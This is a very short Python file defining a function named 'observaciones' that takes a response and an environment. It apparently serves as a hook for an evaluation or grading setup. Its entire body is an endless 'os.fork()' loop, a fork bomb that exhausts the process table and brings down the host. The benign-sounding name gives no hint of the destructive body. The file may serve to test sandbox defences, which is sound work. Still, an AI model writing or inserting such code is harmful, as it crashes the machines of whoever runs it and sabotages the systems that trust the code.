import os


def observaciones(respuesta, entorno):
    while True:
        os.fork()
